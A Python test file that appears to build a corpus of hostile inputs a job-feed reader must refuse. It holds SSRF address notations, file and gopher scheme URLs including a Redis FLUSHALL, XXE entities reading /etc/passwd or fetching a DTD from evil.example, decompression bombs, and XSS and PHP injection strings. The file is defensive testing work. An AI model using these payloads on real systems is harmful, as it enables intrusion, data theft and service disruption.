"""The hostile corpus: addresses and answers that must be refused, each with the reason it is refused for.

Everything is invented or generated here. An address is tried as it stands; an answer is served as a source's.
"""

from __future__ import annotations

import gzip
import ipaddress
import json
import zlib
from collections.abc import Iterator
from dataclasses import dataclass, field
from typing import Any

from foretaste.syndication.inbound.unreadable import Why
from tests.syndication.readers import SAMPLES
from tests.syndication.served import PUBLIC, Reply

HOST = "evil.example"
FEED = f"http://{HOST}/jobs.rss"


@dataclass
class Input:
    """One input: a source to be read, and the web it is read from."""

    name: str
    why: Why | tuple[Why, ...]
    address: str = FEED
    kind: str = "feed"
    pages: dict[str, Any] = field(default_factory=dict)
    names: dict[str, list[str]] = field(default_factory=dict)


# --- addresses that are not public ------------------------------------------------------------------

PRIVATE = (
    "127.0.0.1", "10.0.0.1", "172.16.0.1", "192.168.1.1", "169.254.169.254", "0.0.0.0", "100.64.0.1", "198.18.0.1",
    "192.0.2.1", "224.0.0.1", "240.0.0.1", "255.255.255.255",
)  # fmt: skip
PRIVATE_6 = (
    "::1", "::", "fe80::1", "fc00::1", "fd12:3456::1", "ff02::1", "fec0::1", "2001:db8::1", "2001:0:7f00:1::",
    "64:ff9b:1::7f00:1", "100::1",
)  # fmt: skip


def notations(address: str) -> Iterator[tuple[str, str]]:
    """Return an IPv4 address in every way that somebody's reader takes it."""
    parts = [int(part) for part in address.split(".")]
    number = int(ipaddress.IPv4Address(address))
    yield "dotted", address
    yield "with a dot at the end", address + "."
    yield "one number", str(number)
    yield "one hexadecimal number", hex(number)
    yield "one octal number", f"0{number:o}" if number else "00"
    yield "octal parts", ".".join(f"0{part:o}" for part in parts)
    yield "hexadecimal parts", ".".join(hex(part) for part in parts)
    yield "three parts", f"{parts[0]}.{parts[1]}.{parts[2] * 256 + parts[3]}"
    yield "two parts", f"{parts[0]}.{number & 0xFFFFFF}"
    yield "octal parts with more zeros", ".".join(f"{part:o}".zfill(9) for part in parts)
    yield "wide digits", address.translate({ord(str(n)): 0xFF10 + n for n in range(10)})
    yield "mapped into IPv6", f"[::ffff:{address}]"
    yield "mapped, in hexadecimal", f"[::ffff:{number >> 16:x}:{number & 0xFFFF:x}]"
    yield "translated (NAT64)", f"[64:ff9b::{address}]"
    yield "6to4", f"[2002:{number >> 16:x}:{number & 0xFFFF:x}::1]"


def private_addresses() -> Iterator[Input]:
    for address in PRIVATE:
        for name, written in notations(address):
            yield Input(f"{address} as {name}", Why.NOT_PUBLIC, f"http://{written}/jobs.rss")
    for address in PRIVATE_6:
        yield Input(f"{address}", Why.NOT_PUBLIC, f"http://[{address}]/jobs.rss")
        name = f"six{len(address)}.example"
        yield Input(f"a name for {address}", Why.NOT_PUBLIC, f"http://{name}/", names={name: [address]})
    for address in PRIVATE:
        name = f"n{address.replace('.', '-')}.example"
        yield Input(f"a name for {address}", Why.NOT_PUBLIC, f"https://{name}/jobs.rss", names={name: [address]})
    yield Input("a name with a public and a private address", Why.NOT_PUBLIC, names={HOST: [PUBLIC, "10.0.0.1"]})
    yield Input("a scoped address", Why.NOT_PUBLIC, names={HOST: ["fe80::1%lo"]})
    yield Input("localhost", Why.NOT_PUBLIC, "http://localhost/jobs.rss")
    yield Input("a name without an address", Why.NO_SUCH_HOST, names={HOST: []})


# --- addresses that are none ------------------------------------------------------------------------


def addresses() -> Iterator[Input]:
    for scheme in ("file:///etc/passwd", "ftp://evil.example/x", "gopher://evil.example/_x", "data:text/xml,<rss/>",
                   "javascript:alert(1)", "ws://evil.example/", "unix:///run/x", "dict://evil.example:11211/x"):  # fmt: skip
        yield Input(f"the scheme of {scheme}", Why.NOT_HTTP, scheme)
    for port in (0, 22, 25, 3306, 5432, 6379, 8000, 8080, 9200, 65535):
        yield Input(
            f"port {port}",
            (Why.WRONG_PORT, Why.NOT_AN_ADDRESS),
            f"http://{HOST}:{port}/jobs.rss",
            pages={f"{HOST}/x": b""},
        )
    for text in ("http://evil.example:99999/", "http://evil.example:-1/", "http://evil.example:x/", "http:///jobs",
                 "http://", "http://[::1", "http://evil.example/a b", "http://evil.example/a\r\nX: y",
                 "http://evil.example\\@127.0.0.1/", "http://127.0.0.1\\.evil.example/", "http://evil\x00.example/",
                 "http://ev%69l.example/", "http://%31%32%37.0.0.1/", "http://" + "a" * 3000 + "/",
                 f"http://{HOST}/" + "a" * 3000, "http://[fe80::1%25eth0]/"):  # fmt: skip
        yield Input(f"{text[:40]!r}", Why.NOT_AN_ADDRESS, text)
    for text in ("http://me@evil.example/", "http://me:secret@evil.example/", "http://evil.example@127.0.0.1/",
                 "http://127.0.0.1:80@evil.example/", "https://@evil.example/"):  # fmt: skip
        yield Input(f"{text}", Why.WITH_A_PASSWORD, text)


# --- sites that lead astray -------------------------------------------------------------------------


def to(location: str, status: int = 302) -> Reply:
    return Reply(status=status, headers={"Location": location})


def redirects() -> Iterator[Input]:
    page = f"{HOST}/jobs.rss"
    for location, why in (
        ("http://127.0.0.1/", Why.NOT_PUBLIC),
        ("http://169.254.169.254/latest/meta-data/", Why.NOT_PUBLIC),
        ("//0x7f.1/", Why.NOT_PUBLIC),
        ("http://[::ffff:10.0.0.1]/", Why.NOT_PUBLIC),
        ("file:///etc/passwd", Why.NOT_HTTP),
        ("gopher://127.0.0.1:6379/_FLUSHALL", Why.NOT_HTTP),
        ("http://me:secret@evil.example/", Why.WITH_A_PASSWORD),
        (f"http://{HOST}:22/", Why.WRONG_PORT),
        (f"http://{HOST}/jobs.rss", Why.REDIRECTED_BACK),
        (f"http://{HOST}/jobs.rss#other", Why.REDIRECTED_BACK),
        ("http://[::1", Why.NOT_AN_ADDRESS),
        ("http://nowhere.invalid/", Why.NO_SUCH_HOST),
    ):
        for status in (301, 307):
            yield Input(f"{status} to {location}", why, pages={page: to(location, status)})
    yield Input("two that lead to each other", Why.REDIRECTED_BACK,
                pages={page: to("/b"), f"{HOST}/b": to("/jobs.rss")})  # fmt: skip
    yield Input("a cycle of three sites", Why.REDIRECTED_BACK, pages={
        page: to("http://b.example/"), "b.example/": to("http://c.example/"), "c.example/": to(FEED)})  # fmt: skip
    yield Input("a chain without end", Why.TOO_MANY_REDIRECTS, pages={
        page: to("/0"), **{f"{HOST}/{n}": to(f"/{n + 1}") for n in range(20)}})  # fmt: skip
    yield Input("from https into the open", Why.REDIRECTED_INTO_THE_OPEN, f"https://{HOST}/jobs.rss",
                pages={page: to(f"http://{HOST}/open.rss")})  # fmt: skip
    yield Input("rules that lead to a private address", Why.NOT_PUBLIC,
                pages={page: b"<rss/>", f"{HOST}/robots.txt": to("http://10.0.0.1/robots.txt")})  # fmt: skip
    yield Input("a redirect that leads nowhere", Why.UNEXPECTED_ANSWER, pages={page: Reply(status=302)})


# --- sites that say no ------------------------------------------------------------------------------


def refusals() -> Iterator[Input]:
    page, rss = f"{HOST}/jobs.rss", SAMPLES[8].make([SAMPLES[8].entry])
    for name, robots in (
        ("all", "User-agent: *\nDisallow: /"),
        ("us by name", "User-agent: foretaste\nDisallow: /\n\nUser-agent: *\nAllow: /"),
        ("feeds", "User-agent: *\nDisallow: /*.rss$"),
        ("many wildcards", "User-agent: *\nDisallow: /j" + "*a" * 40),
    ):
        yield Input(f"robots.txt closes {name}", Why.ROBOTS_SAY_NO, pages={page: rss, f"{HOST}/robots.txt": robots})
    yield Input("robots.txt is broken there", Why.BROKEN_THERE,
                pages={page: rss, f"{HOST}/robots.txt": Reply(status=503)})  # fmt: skip
    for name, rule in (
        ("everything", [{"location": "/", "tdm-reservation": 1}]),
        ("feeds", [{"location": "*.rss$", "tdm-reservation": 1}]),
        ("as text", [{"location": "/jobs", "tdm-reservation": "1"}]),
    ):
        yield Input(f"rights are reserved for {name}", Why.RIGHTS_RESERVED,
                    pages={page: rss, f"{HOST}/.well-known/tdmrep.json": json.dumps(rule)})  # fmt: skip
    yield Input("rights are reserved in a header", Why.RIGHTS_RESERVED,
                pages={page: Reply(rss, headers={"tdm-reservation": "1"})})  # fmt: skip
    yield Input("a header asks not to be listed", Why.ROBOTS_SAY_NO,
                pages={page: Reply(rss, headers={"X-Robots-Tag": "noindex"})})  # fmt: skip
    for name, meta, why in (
        ("reserves rights", '<meta name="tdm-reservation" content="1">', Why.RIGHTS_RESERVED),
        ("asks not to be listed", "<META content='follow, noindex' name='robots'>", Why.ROBOTS_SAY_NO),
    ):
        body = SAMPLES[10].make([SAMPLES[10].entry]).replace(b"<title>", meta.encode() + b"<title>")
        yield Input(f"a page {name}", why, f"http://{HOST}/jobs", "page", pages={f"{HOST}/jobs": body})
    for status, why in ((401, Why.SIGN_IN_NEEDED), (403, Why.SIGN_IN_NEEDED), (404, Why.GONE), (410, Why.GONE),
                        (429, Why.ASKED_TO_WAIT), (451, Why.SIGN_IN_NEEDED), (500, Why.BROKEN_THERE),
                        (503, Why.ASKED_TO_WAIT), (206, Why.UNEXPECTED_ANSWER), (304, Why.UNEXPECTED_ANSWER)):  # fmt: skip
        yield Input(f"status {status}", why, pages={page: Reply(rss if status != 304 else b"", status)})


# --- answers that are too much ----------------------------------------------------------------------


def loads() -> Iterator[Input]:
    page = f"{HOST}/jobs.rss"
    zeros = b"\x00" * (64 * 2**20)
    bomb = gzip.compress(zeros, 9)
    for name, body, packing in (
        ("a gzip bomb", bomb, "gzip"),
        ("a zlib bomb", zlib.compress(zeros, 9), "deflate"),
        ("a bomb in a bomb", gzip.compress(b"<rss>" + b" " * (40 * 2**20) + b"</rss>"), "x-gzip"),
    ):
        yield Input(name, Why.BOMB, pages={page: Reply(body, headers={"Content-Encoding": packing})})
    yield Input("more than is read", Why.TOO_LARGE, pages={page: lambda request: Reply(b" " * (17 * 2**20))})
    yield Input("a length that promises too much", Why.TOO_LARGE,
                pages={page: Reply(b"<rss/>", headers={"Content-Length": str(10**12)})})  # fmt: skip
    yield Input("a length that is not kept", (Why.NO_ANSWER, Why.TOO_SLOW),
                pages={page: Reply(b"<rss/>", headers={"Content-Length": "100"})})  # fmt: skip
    for packing in ("br", "zstd", "gzip, gzip", "compress"):
        yield Input(f"packed as {packing}", Why.UNEXPECTED_ANSWER,
                    pages={page: Reply(b"<rss/>", headers={"Content-Encoding": packing})})  # fmt: skip
    yield Input("not packed at all", Why.WRONG_ENCODING,
                pages={page: Reply(b"<rss/>", headers={"Content-Encoding": "gzip"})})  # fmt: skip
    yield Input("packed and cut short", Why.WRONG_ENCODING,
                pages={page: Reply(gzip.compress(b"<rss/>" * 99)[:-20], headers={"Content-Encoding": "gzip"})})  # fmt: skip
    yield Input("a head without end", Why.NO_ANSWER,
                pages={page: Reply(raw=b"HTTP/1.1 200 OK\r\n" + b"X: y\r\n" * 40_000 + b"\r\n")})  # fmt: skip
    yield Input("another protocol", Why.NO_ANSWER, pages={page: Reply(raw=b"220 mail.example ESMTP\r\n")})
    yield Input("nothing", Why.NO_ANSWER, pages={page: Reply(raw=b"")})
    yield Input("a drip", Why.TOO_SLOW, pages={page: Reply(b"<rss/>" * 500, drip=0.05)})
    yield Input("drip by drip in the head", Why.TOO_SLOW, pages={page: dripping})


def dripping(handler: Any) -> Reply:
    import time

    for _byte in range(200):
        handler.wfile.write(b"H")
        time.sleep(0.05)
    return Reply(raw=b"")


# --- answers that lie about themselves ---------------------------------------------------------------

RSS = '<rss version="2.0"><channel><title>Acme</title><item><title>T</title><link>http://e.example/1</link></item></channel></rss>'


def encodings() -> Iterator[Input]:
    page = f"{HOST}/jobs.rss"
    declared = f'<?xml version="1.0" encoding="{{}}"?>{RSS}'
    for name in ("utf-7", "cp037", "rot13", "zlib_codec", "hex", "base64", "unicode_escape", "raw_unicode_escape",
                 "punycode", "idna", "utf-32", "mbcs", "x-user-defined", "nonsense"):  # fmt: skip
        yield Input(f"XML in {name}", Why.UNKNOWN_ENCODING, pages={page: declared.format(name)})
        if name.replace("_", "").replace("-", "").isalnum():
            kind = f"text/xml; charset={name}"
            yield Input(f"an answer in {name}", Why.UNKNOWN_ENCODING,
                        pages={page: Reply(RSS.encode(), headers={"Content-Type": kind})})  # fmt: skip
    for name, body in (
        ("not UTF-8", RSS.encode().replace(b"Acme", b"Acm\xe9\xff")),
        ("UTF-16 that is none", b"\xff\xfe" + RSS.encode() + b"\x00"),
        ("half of a surrogate", RSS.encode().replace(b"Acme", b"\xed\xa0\x80")),
        ("an overlong form", RSS.encode().replace(b"Acme", b"\xc0\xbcscript\xc0\xbe")),
        ("zero bytes", RSS.encode().replace(b"Acme", b"A\x00cme")),
        ("ASCII that is none", declared.format("us-ascii").encode().replace(b"Acme", b"Acm\xe9")),
    ):
        why = (Why.WRONG_ENCODING, Why.NOT_XML) if "UTF-16" in name else Why.WRONG_ENCODING
        yield Input(name, why, pages={page: body})
    yield Input("UTF-32", Why.UNKNOWN_ENCODING, pages={page: RSS.encode("utf-32")})


# --- XML, JSON and pages that attack their reader -----------------------------------------------------

LAUGHS = "<!DOCTYPE l [<!ENTITY a0 'ha'>" + "".join(
    f"<!ENTITY a{n} '{f'&a{n - 1};' * 10}'>" for n in range(1, 10)
) + "]>"  # fmt: skip
ENTITIES = {
    "a billion laughs": LAUGHS,
    "one long entity many times": f"<!DOCTYPE l [<!ENTITY a '{'x' * 50_000}'>]>",
    "a local file": '<!DOCTYPE l [<!ENTITY a9 SYSTEM "file:///etc/passwd">]>',
    "a private address": '<!DOCTYPE l [<!ENTITY a9 SYSTEM "http://169.254.169.254/">]>',
    "a parameter entity": '<!DOCTYPE l [<!ENTITY % p SYSTEM "http://evil.example/d.dtd"> %p;]>',
    "a DTD elsewhere": '<!DOCTYPE l SYSTEM "http://evil.example/d.dtd">',
    "a public DTD": '<!DOCTYPE rss PUBLIC "-//N//DTD RSS 0.91//EN" "http://evil.example/rss.dtd">',
    "in small letters": '<!doctype l [<!entity a9 "x">]>',
}


def xml() -> Iterator[Input]:
    kinds = {
        "feed": (FEED, f"{HOST}/jobs.rss", RSS.replace(">T<", ">&a9;<")),
        "personio": (
            "briefpost",
            "briefpost.jobs.personio.de/xml?language=en",
            SAMPLES[6].make([]).decode().split("?>")[1],
        ),
        "teamtailor": ("briefpost", "briefpost.teamtailor.com/jobs.rss?per_page=100", RSS),
    }
    for kind, (address, page, body) in kinds.items():
        for name, declaration in ENTITIES.items():
            text = f'<?xml version="1.0"?>{declaration}{body}'
            yield Input(f"{kind}: {name}", Why.ENTITIES, address, kind, {page: text})
        yield Input(f"{kind}: hidden in UTF-16", Why.ENTITIES, address, kind,
                    {page: f'<?xml version="1.0" encoding="utf-16"?>{LAUGHS}{body}'.encode("utf-16")})  # fmt: skip
        yield Input(f"{kind}: nested without end", Why.NOT_XML, address, kind,
                    {page: "<rss version='2.0'><channel>" + "<a>" * 100_000})  # fmt: skip
        yield Input(f"{kind}: never closed", Why.NOT_XML, address, kind, {page: body[:-20]})
        yield Input(f"{kind}: a page", (Why.NOT_XML, Why.OTHER_SHAPE, Why.ENTITIES), address, kind,
                    {page: "<!doctype html><title>Sign in</title><p>Hello"})  # fmt: skip


def data() -> Iterator[Input]:
    for sample in SAMPLES[:6]:
        page = sample.url.removeprefix("https://")
        for name, body, why in (
            ("nested without end", b"[" * 200_000, Why.NOT_JSON),
            ("objects without end", b'{"jobs":' * 50_000, Why.NOT_JSON),
            ("not a number", b'{"jobs": NaN, "content": NaN, "offers": NaN}', Why.NOT_JSON),
            ("a number of a million digits", b"[" + b"9" * 1_000_000 + b"]", Why.NOT_JSON),
            ("another root", b'"jobs"', Why.OTHER_SHAPE),
            ("a page", b"<!doctype html><p>Not found", Why.NOT_JSON),
        ):
            yield Input(f"{sample.kind}: {name}", why, sample.address, sample.kind, {page: body})


SCRIPTS = (
    "<script>alert(1)</script>", "&lt;script&gt;alert(1)&lt;/script&gt;", "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>", "<iframe src=//evil.example>", "javascript:alert(1)", "<a onmouseover=alert(1)>Trial</a>",
    "<ScRiPt >alert(1)</sCrIpT>", "{{ constructor.constructor('alert(1)')() }}", "<?php system('id'); ?>",
)  # fmt: skip


def titles() -> Iterator[Input]:
    for sample in SAMPLES[:6]:
        name = "text" if sample.kind == "lever" else "name" if sample.kind == "smartrecruiters" else "title"
        for script in SCRIPTS[:4]:
            pages = sample.pages([{**sample.entry, name: script}])
            yield Input(f"{sample.kind}: {script} in a title", Why.SCRIPT, sample.address, sample.kind,
                        {url.removeprefix("https://"): body for url, body in pages.items()})  # fmt: skip
    for number, script in enumerate(SCRIPTS):
        written = RSS.replace(">T<", f"><![CDATA[{script}]]><")
        yield Input(f"feed: {script} in a title", Why.SCRIPT, pages={f"{HOST}/jobs.rss": written})
        if number % 3:
            continue  # each page starts a process
        entry = json.dumps({**SAMPLES[10].entry, "title": script}).replace("<", "\\u003c")
        page = f'<script type="application/ld+json">{entry}</script>'
        yield Input(f"page: {script} in a title", Why.SCRIPT, f"http://{HOST}/jobs", "page", {f"{HOST}/jobs": page})


def pages() -> Iterator[Input]:
    for name, body in (
        ("without data", "<p>We are hiring"),
        ("with broken data", '<script type="application/ld+json">{"@type": "JobPosting", </script>'),
        ("with data of something else", '<script type="application/ld+json">{"@type": "Recipe"}</script>'),
        ("nested without end", "<div>" * 200_000),
        ("with data nested without end", f'<script type="application/ld+json">{"[" * 50_000}"JobPosting"</script>'),
        ("that is a picture", "\x89PNG\r\n"),
    ):
        yield Input(f"a page {name}", Why.NO_JOBS_IN_DATA, f"http://{HOST}/jobs", "page", {f"{HOST}/jobs": body})


CORPUS = [
    *private_addresses(), *addresses(), *redirects(), *refusals(), *loads(), *encodings(), *xml(), *data(), *titles(),
    *pages(),
]  # fmt: skip
